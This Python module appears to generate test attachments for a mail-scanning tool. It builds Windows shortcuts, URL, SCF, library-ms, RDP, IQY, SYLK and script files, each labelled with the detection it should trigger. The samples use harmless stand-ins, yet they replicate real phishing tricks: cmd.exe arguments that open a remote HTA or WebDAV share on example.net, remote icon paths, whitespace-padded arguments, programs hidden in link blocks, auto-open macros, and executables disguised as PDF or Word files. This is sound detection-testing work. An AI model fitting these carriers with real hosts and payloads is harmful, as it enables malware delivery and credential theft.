# SPDX-License-Identifier: ISC
"""Shortcuts and other small files that start something, or lead elsewhere."""
import struct

from . import LETTER, PROGRAM, carrier, mail
from .archives import bsdtarred, zipped

HEAD = b"\x4c\0\0\0" + bytes.fromhex("0114020000000000c000000000000046")


def string(text):
    return struct.pack("<H", len(text)) + text.encode("utf-16le")


def item(data):
    return struct.pack("<H", len(data) + 2) + data


def file_item(name, folder):
    """A short name, and in an extension of version 9 the long one."""
    short = name[:8].encode("ascii", "replace") + b"\0"
    short += b"\0" * (len(short) % 2)
    body = bytes([0x31 if folder else 0x32, 0]) + bytes(10) + short
    at = len(body) + 2
    long_name = name.encode("utf-16le") + b"\0\0"
    size = 46 + len(long_name) + 2
    return item(body + struct.pack("<HHI", size, 9, 0xBEEF0004) + bytes(10)
                + bytes(28) + long_name + struct.pack("<H", at))


def items(path):
    drive, *names = path.split("\\")
    out = item(b"\x1f\x50" + bytes.fromhex("e04fd020ea3a6910a2d808002b30309d"))
    out += item(b"\x2f" + drive.encode() + b"\\" + bytes(19))
    for n, name in enumerate(names, 1):
        out += file_item(name, n < len(names))
    out += b"\0\0"
    return struct.pack("<H", len(out)) + out


def share_info(share, rest):
    net = share.encode() + b"\0"
    link = struct.pack("<IIIII", 20 + len(net), 2, 20, 0, 0x20000) + net
    suffix = rest.encode() + b"\0"
    return struct.pack("<IIIIIII", 28 + len(link) + len(suffix), 28, 2, 0, 0,
                       28, 28 + len(link)) + link + suffix


def local_info(path):
    path = path.encode() + b"\0"
    return struct.pack("<IIIIIII", 28 + len(path) + 1, 28, 1, 0, 28, 0,
                       28 + len(path)) + path + b"\0"


def variables(kind, path):
    return struct.pack("<II", 0x314, kind) + \
        path.encode("ascii", "replace").ljust(260, b"\0") + \
        path.encode("utf-16le").ljust(520, b"\0")


def lnk(path=None, info=b"", relative=None, folder=None, arguments=None,
        icon=None, index=0, blocks=b"", behind=b""):
    """A shell link (MS-SHLLINK)."""
    flags = 0x80 | (path is not None) | bool(info) << 1
    strings = b""
    for bit, text in ((0x08, relative), (0x10, folder), (0x20, arguments),
                      (0x40, icon)):
        if text is not None:
            flags |= bit
            strings += string(text)
    return (HEAD + struct.pack("<IIQQQIiIHHII", flags, 0x20, 0, 0, 0, 0,
                               index, 1, 0, 0, 0, 0)
            + (items(path) if path is not None else b"") + info + strings
            + blocks + bytes(4) + behind)


CMD = "C:\\Windows\\System32\\cmd.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
ECHO = "/c echo harmless"
LINK = "shortcut.link"
for title, facts, content in [
        ("neighbour", LINK, lambda: lnk(WORD, icon=WORD)),
        ("arguments", LINK, lambda: lnk(CMD, arguments=ECHO)),
        ("local-neighbour", LINK,
         lambda: lnk(info=local_info("C:\\tools\\a.txt"))),
        ("padded", LINK + " shortcut.hidden",
         lambda: lnk(CMD, arguments=" \n\t" * 90 + ECHO)),
        ("padded-neighbour", LINK,
         lambda: lnk(CMD, arguments="/c    echo   harmless")),
        ("icon", LINK + " shortcut.document_icon",
         lambda: lnk(CMD, arguments=ECHO, icon="%ProgramFiles(x86)%\\Adobe\\"
                     "Acrobat Reader DC\\Reader\\AcroRd32.exe")),
        ("icon-ending", LINK + " shortcut.document_icon",
         lambda: lnk(CMD, arguments=ECHO, icon=".\\report.pdf")),
        ("icon-system", LINK + " shortcut.document_icon",
         lambda: lnk(CMD, icon="%SystemRoot%\\System32\\shell32.dll",
                     index=1)),
        ("icon-block", LINK + " shortcut.document_icon",
         lambda: lnk(CMD, icon="a.ico", blocks=variables(
             0xA0000007, "%SystemRoot%\\System32\\imageres.dll"), index=97)),
        ("icon-system-neighbour", LINK,
         lambda: lnk("C:\\Users", icon="%SystemRoot%\\System32\\shell32.dll",
                     index=3)),
        ("appended", LINK + " shortcut.appended",
         lambda: lnk(CMD, arguments=ECHO, behind=LETTER)),
        ("appended-program",
         LINK + " shortcut.appended attachment.program",
         lambda: lnk(CMD, arguments=ECHO, behind=PROGRAM)),
        ("appended-zip",
         LINK + " shortcut.appended attachment.program attachment.runs",
         lambda: lnk(CMD, behind=zipped({"tool.exe": PROGRAM}))),
        ("block", LINK + " shortcut.appended attachment.program",
         lambda: lnk(CMD, blocks=struct.pack(
             "<II", 8 + len(PROGRAM), 0xA0000042) + PROGRAM)),
        ("block-neighbour", LINK, lambda: lnk(CMD, blocks=struct.pack(
            "<III", 12, 0xA0000004, 932))),
        ("share", LINK + " shortcut.remote",
         lambda: lnk(info=share_info("\\\\example.net\\a", "b.exe"))),
        ("share-arguments", LINK + " shortcut.remote",
         lambda: lnk(CMD, arguments="/c start \\\\example.net@SSL\\a\\b")),
        ("web-arguments", LINK + " shortcut.remote",
         lambda: lnk(CMD, arguments="/c start hTTps://example.net/a.hta")),
        ("web-arguments-neighbour", LINK,
         lambda: lnk(CMD, arguments="/c httpd.exe C:\\\\a")),
        ("share-icon", LINK + " shortcut.remote",
         lambda: lnk(CMD, icon="\\\\example.net\\a\\b.ico")),
        ("variables", LINK, lambda: lnk("C:\\a.txt", blocks=variables(
            0xA0000001, "%ComSpec%"), arguments=ECHO)),
        ("broken", LINK + " uninspectable",
         lambda: lnk(CMD, arguments=ECHO)[:150])]:
    carrier("lnk-" + title, facts)(
        lambda content=content: mail(("a.dat", content())))


@carrier("lnk-named", LINK + " attachment.runs name.double_extension")
def _():
    return mail(("会議資料.pdf.lnk", lnk(CMD, arguments=ECHO)))


@carrier("lnk-in-zip", LINK + " attachment.runs")
def _():
    return mail(("a.zip", zipped({"a.lnk": lnk(CMD, arguments=ECHO)})))


@carrier("lnk-in-iso", LINK + " attachment.runs")
def _():
    return mail(("a.img", bsdtarred({"a.lnk": lnk(CMD)}, "iso9660")))


@carrier("lnk-as-pdf", LINK + " type.mismatch")
def _():
    return mail(("a.pdf", lnk(CMD, arguments=ECHO)))


@carrier("lnk-text-neighbour")
def _():
    return mail(("a.txt", b"L is for links.\r\n" + HEAD[1:]))


# Small texts that lead elsewhere. Each is named so that its name says nothing.

def lines(*all_of):
    return "\r\n".join(all_of).encode() + b"\r\n"


def wide(data):
    """As Windows writes UTF-16."""
    return b"\xff\xfe" + data.decode().encode("utf-16le")


def xml(text):
    return b'<?xml version="1.0" encoding="UTF-8"?>\r\n' + text.encode()


SHARE = "\\\\example.net@SSL\\DavWWWRoot\\a"
REMOTE = LINK + " shortcut.remote"
URL = ("[InternetShortcut]", "URL=https://example.net/")
LIBRARY = ('<libraryDescription xmlns="http://schemas.microsoft.com/windows/'
           '2009/library"><searchConnectorDescriptionList>'
           '<searchConnectorDescription><simpleLocation><url>%s</url>'
           '</simpleLocation></searchConnectorDescription>'
           '</searchConnectorDescriptionList></libraryDescription>')
SEARCH = ('<persistedQuery version="1.0"><query><kindList><kind name="item"/>'
          '</kindList><scope><include path="%s"/></scope></query>'
          '</persistedQuery>')
SETTINGS = ('<PCSettings><SearchableContent xmlns="http://schemas.microsoft.'
            'com/Search/2013/SettingContent"><ApplicationInformation>'
            '<DeepLink>%s</DeepLink><Icon>a.dll</Icon>'
            '</ApplicationInformation></SearchableContent></PCSettings>')
INSTALLER = ('<AppInstaller xmlns="http://schemas.microsoft.com/appx/'
             'appinstaller/2018" Uri="%s" Version="1.0.0.0"/>')
CONNECTOR = ('<searchConnectorDescription xmlns="http://schemas.microsoft.com'
             '/windows/2009/searchConnector"><iconReference>%s'
             '</iconReference></searchConnectorDescription>')
CONSOLE = ('<MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><String>%s'
           '</String></StringTables></MMC_ConsoleFile>')
RDP = ("screen mode id:i:2", "full address:s:example.net",
       "drivestoredirect:s:*", "remoteapplicationmode:i:1",
       "remoteapplicationprogram:s:Check")
for title, facts, content in [
        ("url", LINK, lambda: lines(*URL)),
        ("url-icon", REMOTE, lambda: lines(*URL, "IconFile=" + SHARE)),
        ("url-icon-neighbour", LINK,
         lambda: lines(*URL, "IconFile=https://example.net/favicon.ico")),
        ("url-share", REMOTE, lambda: lines(URL[0], "URL=" + SHARE)),
        ("url-file", REMOTE, lambda: lines(
            "; a comment", URL[0], "url = file://example.net/a/b.url")),
        ("url-slashes", REMOTE,
         lambda: lines(URL[0], "URL=//example.net/a")),
        ("url-mhtml", REMOTE, lambda: lines(
            URL[0], "URL=mhtml:http://example.net/a!x-usc:http://b.example")),
        ("url-folder", REMOTE, lambda: lines(
            URL[0], "URL=C:\\Windows\\a.exe", "WorkingDirectory=" + SHARE)),
        ("url-wide", REMOTE, lambda: wide(lines(URL[0], "URL=" + SHARE))),
        ("url-neighbour", "", lambda: lines("About [InternetShortcut]",
                                            "URL=https://example.net/")),
        ("scf", REMOTE, lambda: lines("[Shell]", "Command=2",
                                      "IconFile=" + SHARE)),
        ("scf-neighbour", "", lambda: lines("[Shell]", "Colour=2")),
        ("desktop-ini", "shortcut.remote", lambda: lines(
            "[.ShellClassInfo]", "IconResource=" + SHARE + ",0")),
        ("desktop-ini-neighbour", "", lambda: lines(
            "[.ShellClassInfo]",
            "IconResource=%SystemRoot%\\system32\\imageres.dll,3")),
        ("theme", "shortcut.remote", lambda: lines(
            "[VisualStyles]", "Path=" + SHARE + ".msstyles")),
        ("theme-neighbour", "", lambda: lines(
            "[VisualStyles]",
            "Path=%ResourceDir%\\Themes\\Aero\\Aero.msstyles")),
        ("autorun", LINK, lambda: lines("[AutoRun]", "open=a.exe")),
        ("desktop-entry", LINK,
         lambda: lines("[Desktop Entry]", "Exec=echo harmless")),
        ("library", REMOTE, lambda: xml(LIBRARY % SHARE)),
        ("library-wide", REMOTE, lambda: wide(
            ('<?xml version="1.0" encoding="UTF-16"?>'
             + LIBRARY % SHARE).encode())),
        ("library-references", REMOTE, lambda: xml(
            LIBRARY % "&#92;&#x5c;example.net&#92;a")),
        ("library-neighbour", LINK, lambda: xml(
            LIBRARY % "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
        ("search", REMOTE, lambda: xml(SEARCH % SHARE)),
        ("search-neighbour", LINK, lambda: xml(SEARCH % "C:\\Users")),
        ("connector", REMOTE, lambda: xml(CONNECTOR % SHARE)),
        ("connector-neighbour", LINK,
         lambda: xml(CONNECTOR % "imageres.dll,-1002")),
        ("settings", LINK,
         lambda: xml(SETTINGS % "%windir%\\system32\\cmd.exe " + ECHO)),
        ("settings-remote", REMOTE, lambda: xml(SETTINGS % SHARE)),
        ("installer", REMOTE,
         lambda: xml(INSTALLER % "https://example.net/a.appinstaller")),
        ("console", LINK, lambda: xml(CONSOLE % "res://apds.dll/redirect."
                                      "html?target=javascript:a")),
        ("jnlp", REMOTE, lambda: xml(
            '<jnlp spec="1.0+" codebase="https://example.net/" '
            'href="a.jnlp"/>')),
        ("xml-neighbour", "", lambda: xml(
            '<letter from="https://example.net/"><url>%s</url></letter>'
            % SHARE)),
        ("rdp", REMOTE, lambda: lines(*RDP)),
        ("rdp-wide", REMOTE, lambda: wide(lines(*RDP))),
        ("rdp-neighbour", "", lambda: lines("screen mode id:i:2",
                                            "desktopwidth:i:1280")),
        ("iqy", REMOTE,
         lambda: lines("WEB", "1", "https://example.net/a.dat")),
        ("iqy-neighbour", "", lambda: lines("Web", "pages of ours:",
                                            "https://example.net/a")),
        ("odbc", LINK, lambda: lines("XLODBC", "1", "DSN=a"))]:
    carrier("pointer-" + title, facts)(
        lambda content=content: mail(("a.txt", content())))

for ending, content in [
        ("url", lambda: lines(*URL)), ("scf", lambda: lines("[Shell]")),
        ("library-ms", lambda: xml(LIBRARY % "C:\\Users")),
        ("search-ms", lambda: xml(SEARCH % "C:\\Users")),
        ("settingcontent-ms", lambda: xml(SETTINGS % "a")),
        ("appinstaller", lambda: xml("<AppInstaller/>")),
        ("rdp", lambda: lines("full address:s:example.net")),
        ("iqy", lambda: lines("WEB", "1", "https://example.net/")),
        ("msc", lambda: xml(CONSOLE % "a")),
        ("jnlp", lambda: xml("<jnlp/>"))]:
    known = {"scf": "", "rdp": REMOTE, "iqy": REMOTE}.get(ending, LINK)
    carrier("pointer-named-" + ending, known + " attachment.runs")(
        lambda ending=ending, content=content: mail(
            ("会議." + ending, content())))


# Tables as text (SYLK) and scripts that other modules do not make.

def sylk(*records):
    return lines("ID;PWXL;N;E", "P;PGeneral", *records, "E")


for title, facts, content in [
        ("macro", "macro.xlm", lambda: sylk(
            "O;L;E;D;V0;K47;G100 0.001", 'C;Y1;X1;KFALSE;EALERT("a")')),
        ("auto", "macro.xlm", lambda: sylk("NN;NAuto_open;ER1C1")),
        ("call", "macro.xlm",
         lambda: sylk('C;Y1;X1;K0;EEXEC("echo harmless")')),
        ("neighbour", "", lambda: sylk(
            "O;L;D;V0;K47;G100 0.001", "C;Y1;X1;K3;ESUM(R1C1:R2C1)",
            'C;Y2;X1;K"call (me)"'))]:
    carrier("sylk-" + title, facts)(
        lambda content=content: mail(("a.txt", content())))
carrier("sylk-named", "attachment.runs macro.xlm")(
    lambda: mail(("a.slk", sylk("O;E"))))

for ending, facts, content in [
        ("py", "attachment.script", lambda: lines(
            "import subprocess", "if __name__ == '__main__':",
            "    subprocess.Popen(['true'])")),
        ("jse", "attachment.runs attachment.script",
         lambda: b"#@~^CgAAAA==harmless^#~@"),
        ("vbe", "attachment.runs attachment.script",
         lambda: b"#@~^CgAAAA==harmless^#~@"),
        ("wsf", "attachment.runs attachment.script", lambda: lines(
            '<job id="a"><script language="JScript">WScript.Echo("a")',
            "</script></job>")),
        ("ps1", "attachment.runs attachment.script", lambda: lines(
            "$ErrorActionPreference = 'Stop'", "Write-Host harmless")),
        ("cmd", "attachment.runs attachment.script",
         lambda: lines("@echo off", "rem harmless")),
        ("xll", "attachment.program attachment.runs",
         lambda: PROGRAM + b"xlAutoOpen\0"),
        ("msi", "attachment.runs", lambda: LETTER)]:
    carrier("run-" + ending, facts)(
        lambda ending=ending, content=content: mail(
            ("a." + ending, content())))
carrier("run-py-neighbour")(
    lambda: mail(("a.py", lines("def total(list):", "    return sum(list)"))))


# What a program says of itself (VS_VERSIONINFO), at a multiple of four.

def version(**told):
    out = PROGRAM + bytes(-len(PROGRAM) % 4)
    for key, value in told.items():
        head = struct.pack("<HHH", 0, len(value) + 1, 1) \
            + key.encode("utf-16le") + b"\0\0"
        head += bytes(-len(head) % 4) + value.encode("utf-16le") + b"\0\0"
        out += head + bytes(-len(head) % 4)
    return out


for title, facts, told in [
        ("name", "program.disguised", {"OriginalFilename": "会議資料.pdf"}),
        ("reader", "program.disguised",
         {"FileDescription": "Adobe Acrobat Document"}),
        ("japanese", "program.disguised",
         {"ProductName": "Microsoft Word 文書"}),
        ("neighbour", "", {"OriginalFilename": "tool.exe",
                           "FileDescription": "A tool",
                           "ProductName": "Words and tools"})]:
    carrier("disguise-" + title, facts + " attachment.program")(
        lambda told=told: mail(("a.dat", version(**told))))
